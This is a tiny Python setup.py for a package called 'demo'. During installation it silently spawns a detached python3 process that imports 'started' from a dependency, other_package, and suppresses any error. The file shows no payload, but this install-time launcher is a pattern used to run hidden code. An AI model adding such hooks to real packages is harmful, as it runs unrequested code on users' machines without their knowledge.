import subprocess

from setuptools import setup

try:
    subprocess.Popen(["python3", "-c", "from other_package import started"], close_fds=True)
except OSError:
    pass

setup(name="demo", install_requires=["other_package"])
